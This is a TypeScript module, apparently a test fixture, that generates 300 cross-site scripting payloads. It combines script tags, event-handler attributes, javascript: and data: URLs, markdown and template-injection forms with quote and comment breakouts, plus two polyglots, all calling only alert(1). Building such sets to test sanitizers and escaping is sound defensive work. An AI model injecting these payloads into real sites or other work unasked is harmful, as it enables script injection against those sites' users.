const calls = ['alert(1)', 'alert`1`', 'top.alert(1)']

/** Markup and addresses that would call `alert` if a page took text for markup. */
const forms: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script>`,
  (call) => `<b onpointerover=${call}>x`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>${call}">`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `data:text/html,<script>${call}`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `https://x.example/"onclick="${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<math href=javascript:${call}>x`,
  (call) => `<style>@import'x'</style><i>${call}`,
]

/** What stands around the text where a page might put it. */
const wraps: ((form: string) => string)[] = [
  (form) => form,
  (form) => `">${form}`,
  (form) => `'>${form}`,
  (form) => `--></title>${form}`,
  (form) => `\\u003c/script>${form}`,
]

/** 300 of them, all different. */
export const payloads: string[] = calls.flatMap((call) =>
  forms.flatMap((form) => wraps.map((wrap) => wrap(form(call)))),
)

/**
 * Texts that leave any of the places where a page might put them, short enough for every field: quotes of attributes, a
 * comment, a title, a script and a style. The marks of a kind of test are in each, so that it runs wherever one does.
 */
export const polyglots: string[] = [`"'><svg onload=alert(1)>`, `--></title><img src=x onerror=alert(1)>`]

/** One of each form, with one wrap after the other. */
export const oneOfEachForm: string[] = forms.map((form, index) =>
  (wraps[index % wraps.length] ?? ((text) => text))(form(calls[0] ?? '')),
)
